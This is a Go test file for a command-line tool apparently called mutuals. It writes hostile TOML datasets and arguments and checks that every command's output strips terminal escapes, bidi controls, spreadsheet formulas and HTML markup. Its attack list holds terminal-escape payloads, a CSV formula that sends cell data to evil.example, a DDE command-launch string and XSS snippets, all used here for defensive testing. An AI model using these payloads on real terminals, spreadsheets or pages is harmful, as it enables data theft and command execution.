package cli

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/mutuals/mutuals/model"
)

// attacks are text a data file or a command line could use to act on a
// terminal or on what reads the output: the issue's, and more.
var attacks = []string{
	"\x1b]0;PWNED\a",           // OSC 0: sets the window title
	"\x1b]52;c;cGF5bG9hZA==\a", // OSC 52: writes the clipboard
	"\x1b[2J\x1b[H",            // clears the screen
	"\x1b[31mred\x1b[0m",       // colour
	"\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", // a hyperlink
	"\x1b[6n",                                               // asks for the cursor position: the terminal types the answer
	"\x1bP+q544e\x1b\\",                                     // DCS XTGETTCAP: the terminal types the answer
	"\x1b[?1049h",                                           // the alternate screen
	"\x1bc",                                                 // RIS: resets the terminal
	"\x1b]1337;File=inline=1:AAAA\a",                        // iTerm2 inline file
	"\u009b2J", "\u009d0;C1 title\u009c", "\u0085next line", // C1: CSI, OSC and ST, NEL
	"\u202egnp.exe", "a\u2066b\u2069c", "\u061c\u200e\u200f", // bidi controls
	"nul\x00bell\a\bback\x7fdel\x0bv\x0cf", // C0 and DEL
	"tab\tcr\rlf\n",                        // line breaks and tabs
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
	"<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "<script>&amp;</script>",
	"| pipe | cell |", "\\", "`code`",
}

// tomlString writes s as a TOML basic string, every control as \uXXXX.
func tomlString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case model.Unsafe(r):
			fmt.Fprintf(&b, `\u%04X`, r)
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}

func tomlList(ss ...string) string {
	q := make([]string, len(ss))
	for i, s := range ss {
		q[i] = tomlString(s)
	}
	return "[" + strings.Join(q, ", ") + "]"
}

// writeHostileData writes a dataset with an attack in every text field
// of the programme, three mutuals (all named "evil …", so "evil" is an
// ambiguous REF), their events and readings, and their sources.
func writeHostileData(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	a := func(i int) string { return attacks[i%len(attacks)] }
	fmt.Fprintf(&b, "[programme]\nname = %s\nsummary = %s\nmentor_pool = %s\nsources = [\"s0\"]\n\n",
		tomlString(a(0)), tomlString(a(1)), tomlList(attacks...))
	for i := range 3 {
		fmt.Fprintf(&b, "[[source]]\nid = \"s%d\"\ntitle = %s\npublisher = %s\nauthor = %s\nurl = %s\nnote = %s\n\n",
			i, tomlString(a(i)), tomlString(a(i+1)), tomlString(a(i+2)), tomlString([]string{"javascript:alert(1)", "https://x.example/<script>", a(i + 3)}[i]), tomlString(a(i+4)))
	}
	for i := range 3 {
		fmt.Fprintf(&b, "[[mutual]]\nid = \"evil-%c\"\nname = %s\nlocation = %s\nregion = %s\n", 'a'+i,
			tomlString("evil "+a(i*7)), tomlString(a(i*7+1)), tomlString(a(i*7+2)))
		fmt.Fprintf(&b, "service_area = %s\nstaff_groups = %s\nmentors = %s\nlegal_form = %s\npartners = %s\n",
			tomlList(a(i*7+3), "shared "+a(0)), tomlList(a(i*7+4)), tomlList(a(i*7+5)), tomlString(a(i*7+6)), tomlList(attacks...))
		fmt.Fprintf(&b, "became = %s\noutcome = %s\nsummary = %s\nsources = [\"s0\", \"s%d\"]\n\n",
			tomlString(a(i*7+7)), tomlString(a(i*7+8)), tomlString(strings.Join(attacks, " ")), i)
		for j := range 3 {
			fmt.Fprintf(&b, "[[mutual.event]]\ndate = \"201%d\"\nkind = %q\ntext = %s\nsources = [\"s%d\"]\n\n",
				j, []string{"announced", "launched", "wound-up"}[j], tomlString(a(i*3+j)), i)
		}
		fmt.Fprintf(&b, "[[mutual.reading]]\nfield = \"legal_form\"\nvalue = %s\nsources = [\"s0\"]\n\n", tomlString(a(i+9)))
	}
	path := filepath.Join(t.TempDir(), "hostile.toml")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// writeBrokenData writes files whose problems echo hostile text: an
// unknown key, a bad id, a bad date and an undefined source, each holding
// escapes.
func writeBrokenData(t testing.TB) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("[[mutual]]\n")
	fmt.Fprintf(&b, "%s = 1\n", tomlString("sevice\x1b]0;PWNED\a"))
	fmt.Fprintf(&b, "id = %s\nname = %s\nlocation = \"x\"\nservice_area = [\"x\"]\nstaff_groups = [\"x\"]\nsummary = \"x\"\n", tomlString("Bad\x1b[2J"), tomlString("\u202ename"))
	fmt.Fprintf(&b, "sources = [%s]\n\n[[mutual.event]]\ndate = %s\nkind = %s\ntext = \"x\"\nsources = [\"x\"]\n",
		tomlString("nowhere\x1b]52;c;eA==\a"), tomlString("2010\x1b[6n"), tomlString("\u009bkind"))
	b.WriteString("raw = \"\x1b]0;raw ESC in the file\x07\"\n")
	path := filepath.Join(t.TempDir(), "broken\x1b]0;PATH\a.toml")
	if err := os.WriteFile(path, []byte(b.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// style is a Select Graphic Rendition sequence: the only escape sequence
// the program writes to stdout or stderr itself.
var style = regexp.MustCompile(`\x1b\[[0-9;:]*m`)

// unsafe says what in printed text could act on the terminal, or "": once
// the styles are removed, any escape, C0 or C1 control other than a line
// break, any bidi control, or invalid UTF-8.
func unsafe(s string) string {
	plain := style.ReplaceAllString(s, "")
	if i := strings.IndexFunc(plain, func(r rune) bool { return r != '\n' && model.Unsafe(r) }); i >= 0 {
		r, _ := utf8.DecodeRuneInString(plain[i:])
		return fmt.Sprintf("%U at byte %d, in %q", r, i, plain[max(i-30, 0):min(i+30, len(plain))])
	}
	if !utf8.ValidString(plain) {
		return "invalid UTF-8"
	}
	return ""
}

var (
	autolink = regexp.MustCompile(`<https?://[^<> ]+>`)
	entity   = regexp.MustCompile(`&(amp|lt|gt);`)
)

// markup says what in a CSV or Markdown document would run as a formula
// or as markup, or "".
func markup(argv []string, out string) string {
	format := ""
	for i, a := range argv {
		if a == "-f" && i+1 < len(argv) {
			format = argv[i+1]
		}
	}
	switch format {
	case "csv":
		rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
		if err != nil {
			return "not CSV: " + err.Error()
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.IndexByte("=+-@\t\r", cell[0]) >= 0 {
					return fmt.Sprintf("a formula: %q", cell)
				}
			}
		}
	case "markdown":
		text := entity.ReplaceAllString(autolink.ReplaceAllString(out, ""), "")
		text = strings.ReplaceAll(text, `\]`, "")
		for _, bad := range []string{"<", ">", "&", "]("} {
			if i := strings.Index(text, bad); i >= 0 {
				return fmt.Sprintf("markup %q in %q", bad, text[max(i-30, 0):min(i+30, len(text))])
			}
		}
	}
	return ""
}

// noTerminal makes stdin /dev/null while the test runs, so that no
// command opens the browser even when the tests run in a terminal.
func noTerminal(t testing.TB) {
	t.Helper()
	null, err := os.Open(os.DevNull)
	if err != nil {
		t.Fatal(err)
	}
	stdin := os.Stdin
	os.Stdin = null
	t.Cleanup(func() { os.Stdin = stdin; null.Close() })
}

// execCommand runs the command line as main does (fang, the error
// handler) and returns stdout, stderr and the exit status.
func execCommand(args ...string) (stdout, stderr string, status int) {
	opts := &options{}
	root := rootCommand(opts)
	var out, errs bytes.Buffer
	root.SetOut(&out)
	root.SetErr(&errs)
	root.SetArgs(args)
	err := execute(context.Background(), root, opts, "test")
	switch {
	case err == nil:
	case isUsage(err):
		status = 2
	default:
		status = 1
	}
	return out.String(), errs.String(), status
}

// TestHostileMatrix: every command in every format on a dataset with an
// attack in every field, every error path with attacks in its arguments
// and in broken files: no byte of an escape, control or bidi override
// reaches stdout or stderr, whether they are pipes or colour terminals
// (where no writer strips anything), and every error says something.
func TestHostileMatrix(t *testing.T) {
	noTerminal(t)
	good, broken := writeHostileData(t), writeBrokenData(t)
	var runs [][]string
	for _, f := range []string{"text", "markdown", "csv", "json"} {
		runs = append(runs,
			[]string{"list", "-f", f}, []string{"list", "evil", "-f", f}, []string{"list", "--sort", "name", "-f", f},
			[]string{"show", "evil-a", "-f", f}, []string{"show", "evil-b", "-f", f, "-w", "20"}, []string{"show", "evil-c", "-f", f, "-w", "1000"},
			[]string{"compare", "evil-a", "evil-b", "evil-c", "--all", "-f", f}, []string{"compare", "evil-a", "evil-b", "-f", f, "-w", "20"},
			[]string{"timeline", "-f", f}, []string{"timeline", "-f", f, "-w", "20"})
		for _, by := range []string{"service", "staff", "mentor", "form", "region", "location", "outcome", "partner"} {
			runs = append(runs, []string{"stats", "--by", by, "-f", f})
		}
	}
	runs = append(runs, []string{}, []string{"validate"}, []string{"validate", good},
		[]string{"show", "evil"}, []string{"compare", "evil", "evil-a"}, []string{"compare", "evil-a"})
	for _, a := range attacks {
		runs = append(runs,
			[]string{"list", a}, []string{"list", a + ":x"}, []string{"list", "-" + a + ":x"}, []string{"list", `"` + a},
			[]string{"show", a}, []string{"compare", a, "evil-a"}, []string{"compare", "evil-a", "evil-b", "--fields", a},
			[]string{"stats", "--by", a}, []string{"list", "--sort", a}, []string{"list", "-f", a}, []string{"show", "evil-a", "-w", a},
			[]string{"--" + a}, []string{"list", "-" + a}, []string{a}, []string{"help", a}, []string{"completion", a},
			[]string{"timeline", a}, []string{"stats", a})
	}
	envs := map[string][]string{
		"pipe":     {"TERM=dumb"},
		"terminal": {"CLICOLOR_FORCE=1", "COLORTERM=truecolor", "TERM=xterm-256color"},
	}
	for name, env := range envs {
		for _, kv := range env {
			k, v, _ := strings.Cut(kv, "=")
			t.Setenv(k, v)
		}
		t.Setenv("NO_COLOR", "")
		t.Setenv("COLUMNS", "")
		for _, args := range runs {
			for _, data := range [][]string{{"--data", good}, {"--data", broken}, {"--data", good + "\x1b]0;missing\a"}} {
				argv := append(append([]string{}, args...), data...)
				stdout, stderr, status := execCommand(argv...)
				if msg := unsafe(stdout); msg != "" {
					t.Errorf("%s: %q: stdout: %s", name, argv, msg)
				}
				if msg := markup(argv, stdout); msg != "" {
					t.Errorf("%s: %q: stdout: %s", name, argv, msg)
				}
				if msg := unsafe(stderr); msg != "" {
					t.Errorf("%s: %q: stderr: %s", name, argv, msg)
				}
				if status != 0 && !strings.Contains(style.ReplaceAllString(stderr, ""), "error: ") {
					t.Errorf("%s: %q: exit %d with no error on stderr: %q", name, argv, status, stderr)
				}
			}
		}
		t.Setenv("MUTUALS_DATA", broken+string(os.PathListSeparator)+"\x1b]0;x\a")
		if stdout, stderr, _ := execCommand("list"); unsafe(stdout+stderr) != "" {
			t.Errorf("%s: MUTUALS_DATA: %s", name, unsafe(stdout+stderr))
		}
		t.Setenv("MUTUALS_DATA", "")
	}
	t.Logf("%d command lines × 3 data paths × %d kinds of output", len(runs), len(envs))
	// the dataset must load, or the matrix above tests only errors
	if stdout, stderr, status := execCommand("list", "--data", good); status != 0 || strings.Count(stdout, "\n") != 3 {
		t.Fatalf("the hostile dataset does not load: exit %d\n%s%s", status, stdout, stderr)
	}
}

// TestValidateOK: validate says ok on stdout, where a script reads it, and
// nothing on stderr (cobra's Printf writes to stderr when no output is set,
// as in the real program).
func TestValidateOK(t *testing.T) {
	f, err := os.Create(filepath.Join(t.TempDir(), "stdout"))
	if err != nil {
		t.Fatal(err)
	}
	stdout := os.Stdout
	os.Stdout = f
	defer func() { os.Stdout = stdout }()
	root := rootCommand(&options{})
	var stderr bytes.Buffer
	root.SetErr(&stderr)
	root.SetArgs([]string{"validate"})
	if err := root.Execute(); err != nil {
		t.Fatal(err)
	}
	os.Stdout = stdout
	out, _ := os.ReadFile(f.Name())
	if !strings.HasPrefix(string(out), "ok: 12 mutuals") || stderr.Len() != 0 {
		t.Errorf("validate: stdout %q, stderr %q", out, stderr.String())
	}
}
